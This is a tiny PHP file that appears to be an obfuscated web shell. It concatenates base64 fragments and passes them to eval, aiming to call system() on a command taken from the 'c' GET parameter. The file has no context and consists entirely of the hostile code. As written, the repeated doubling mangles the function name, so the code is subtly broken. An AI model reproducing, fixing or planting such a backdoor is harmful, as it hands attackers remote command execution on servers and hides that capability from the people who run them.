<?php
$s = 'c3lzdGVt';
$s .= $s;
$s .= $s;
$s .= $s;
$s .= 'KCRfR0VUWyJjIl0pOw==';
eval(base64_decode($s));
